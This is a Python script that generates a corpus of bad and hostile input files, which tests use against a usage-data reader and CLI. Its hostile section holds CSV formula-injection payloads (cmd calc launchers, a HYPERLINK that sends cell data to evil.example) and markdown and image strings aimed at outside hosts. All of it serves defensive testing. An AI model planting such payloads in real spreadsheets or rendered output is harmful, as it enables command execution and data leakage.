"""Regenerate the bad-input corpus beside this script (deterministic; files are committed).

    .venv/bin/python tests/usage/readers/bad/make_corpus.py

Each file is something users really upload by mistake, or an attacker's input (issue 8,
items 7–11): ``EXPECTED`` in ``test_bad_inputs.py`` holds the message each refused file
must produce and ``READABLE`` the warning each readable one must carry. ``generated()``
builds the few cases too large to commit (written to a temporary folder by the tests).
``tests/usage/readers/test_hostile_sweep.py`` runs every file through the reader and the
CLI.
"""

from __future__ import annotations

import gzip
import io
import zipfile
from pathlib import Path

HERE = Path(__file__).parent
GENERIC = b"timestamp,model,input_tokens,output_tokens\n"


def _xlsx() -> bytes:
    # A minimal .xlsx is a ZIP with XML parts; the magic bytes are what matters.
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        # A fixed date keeps the bytes (and the committed file) the same on every run.
        for name, body in (("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", "<workbook/>")):
            z.writestr(zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0)), body)
    return buf.getvalue()


FILES: dict[str, bytes] = {
    "empty.csv": b"",
    "blank_space.csv": b"  \n\n\t\n",
    "binary_nul.csv": b"timestamp,model\x00\x00\x01\x02\xff" * 10,
    "saved_page.csv": b"<!DOCTYPE html>\n<html><head><title>Usage</title></head><body></body></html>\n",
    "workbook_renamed.csv": _xlsx(),
    "compressed_renamed.csv": gzip.compress(GENERIC + b"2026-03-01,gpt-4o,1,1\n", mtime=0),
    "old_excel.csv": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64,
    "invoice.csv": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
    "unknown_object.json": b'{"invoices": [{"id": 1, "total": 3.5}]}\n',
    "unknown_list.json": b'[{"foo": 1}, {"foo": 2}]\n',
    "broken.json": b'{"object": "page", "data": [\n',
    "unknown_header.csv": b"date,user,amount\n2026-03-01,ann,3.50\n",
    "missing_output.csv": b"timestamp,model,input_tokens\n2026-03-01,gpt-4o,5\n",
    "header_only.csv": GENERIC,
    "all_rows_bad.csv": GENERIC + b"2026-03-01,gpt-4o,-1,1\nnot a date,gpt-4o,1,1\n",
    "text_only.txt": b"Hello,\nthis is a note about our usage last month.\n",
}


HOSTILE_MODEL = "**x** [y](https://evil.example) ![i](http://127.0.0.1:9/b.gif) :red[z] $a$"
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\tgpt-4o",
)


def _rows(*lines: str, header: str = GENERIC.decode().strip()) -> bytes:
    return ("\n".join((header, *lines)) + "\n").encode()


def _generic_text(*lines: str) -> str:
    return "\n".join((GENERIC.decode().strip(), *lines)) + "\n"


def _quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


HOSTILE: dict[str, bytes] = {
    # item 7: old-Mac line ends
    "cr_only.csv": b"timestamp,model,input_tokens,output_tokens\r"
    b"2026-10-01T10:00:00Z,gpt-4o,1000,50\r",
    # encodings without a byte-order mark
    "utf16_be_no_bom.csv": _generic_text("2026-10-01T10:00:00Z,gpt-4o,1000,50").encode("utf-16-be"),
    "utf16_le_no_bom.csv": _generic_text("2026-10-01T10:00:00Z,gpt-4o,1000,50").encode("utf-16-le"),
    # item 8: numbers that would overflow
    "cost_overflow.csv": _rows(
        "2026-10-01T10:00:00Z,gpt-4o,1000,50,1e308",
        "2026-10-01T11:00:00Z,gpt-4o,1000,50,1e308",
        header="timestamp,model,input_tokens,output_tokens,reported_cost_usd",
    ),
    "cost_overflow_one_row.csv": _rows(
        "2026-10-01T10:00:00Z,gpt-4o,1000,50,1e308",
        "2026-10-01T11:00:00Z,gpt-4o,1000,50,0.01",
        header="timestamp,model,input_tokens,output_tokens,reported_cost_usd",
    ),
    "tokens_inf_nan.csv": _rows(
        "2026-10-01,gpt-4o,inf,1",
        "2026-10-01,gpt-4o,NaN,1",
        "2026-10-01,gpt-4o,1e400,1",
        "2026-10-01,gpt-4o,5,1",
    ),
    "tokens_json_huge.json": b'{"object": "page", "data": [{"start_time": 1730419200, '
    b'"results": [{"object": "organization.usage.completions.result", "model": "gpt-4o", '
    b'"input_tokens": 1e400, "output_tokens": 99999999999999999999999999999}]}]}',
    # item 9: silently wrong
    "duplicate_input_tokens.csv": _rows(
        "2026-10-01T10:00:00Z,gpt-4o,1000,50,7",
        header="timestamp,model,input_tokens,output_tokens,input_tokens",
    ),
    "year_0001.csv": _rows("2026-10-01,gpt-4o,1,1", "0001-01-01T00:00:00Z,gpt-4o,2,2"),
    "year_9999.csv": _rows("2026-10-01,gpt-4o,1,1", "9999-06-01,gpt-4o,2,2"),
    "after_2262.csv": _rows("2026-10-01,gpt-4o,1,1", "2262-04-12T00:00:00,gpt-4o,2,2"),
    "only_year_9999.csv": _rows("9999-12-31T23:59:59Z,gpt-4o,1,1"),
    "day_month_mixed.csv": _rows("03/04/2026,gpt-4o,1,1", "13/04/2026,gpt-4o,1,1"),
    "day_month_contradiction.csv": _rows(
        "13/04/2026,gpt-4o,1,1", "14/04/2026,gpt-4o,1,1", "04/15/2026,gpt-4o,1,1"
    ),
    "epoch_milliseconds.csv": _rows("1727776800000,gpt-4o,1,1"),
    # item 10: limits and long lines
    "no_newline.csv": b"x" * 70_000,
    "huge_header_name.csv": _rows("1,2", header="h" * 20_000 + ",model"),
    "many_columns.csv": _rows(
        "2026-10-01,gpt-4o,1,1" + ",x" * 5000,
        header=GENERIC.decode().strip() + "".join(f",c{i}" for i in range(5000)),
    ),
    "unterminated_quote.csv": _rows("2026-10-01,gpt-4o,1,1", '"2026-10-02,gpt-4o,2,2'),
    "deep_json.json": b"[" * 5000 + b"]" * 5000,
    "sep_line_only.csv": b"sep=;\n",
    "totals_only.csv": _rows("Total,,2,2"),
    # item 11: text meant to be read as formulas or markup
    "formula_models.csv": _rows(
        *(f"2026-10-01,{_quoted(m)},1,1" for m in FORMULAS),
        "2026-10-01,gpt-4o,1,1",
        header="timestamp,model,input_tokens,output_tokens",
    ),
    "markdown_model.csv": _rows(
        f"2026-10-01,{_quoted(HOSTILE_MODEL)},10,1",
        "2026-10-01,gpt-4o,1000,50",
    ),
    "markdown_header.csv": _rows(
        "2026-10-01,gpt-4o,1,1,x",
        header=GENERIC.decode().strip() + ",**bold** [l](https://evil.example)",
    ),
}


def generated() -> dict[str, bytes]:
    """Hostile files too large to commit (item 10): an 8 MB prompt cell, 3 MB on one line."""
    return {
        "prompt_cell_8mb.csv": _rows(
            "2026-10-01,gpt-4o,1,1," + _quoted("p" * 8_000_000),
            "2026-10-02,gpt-4o,2,2,short",
            header=GENERIC.decode().strip() + ",prompt",
        ),
        "no_newline_3mb.csv": b"y" * 3_000_000,
    }


def main() -> None:
    for name, data in {**FILES, **HOSTILE}.items():
        (HERE / name).write_bytes(data)


if __name__ == "__main__":
    main()
